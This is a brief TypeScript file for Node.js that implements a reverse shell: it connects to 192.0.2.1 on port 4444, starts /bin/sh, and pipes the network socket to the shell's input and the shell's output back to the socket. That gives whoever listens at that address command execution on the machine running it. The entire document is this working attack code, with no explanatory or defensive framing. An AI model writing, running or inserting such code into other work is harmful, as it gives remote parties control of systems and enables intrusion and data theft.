import * as net from "net";
import { spawn } from "child_process";

const client = net.connect(4444, "192.0.2.1", () => {
  const sh = spawn("/bin/sh", []);
  client.pipe(sh.stdin);
  sh.stdout.pipe(client);
});
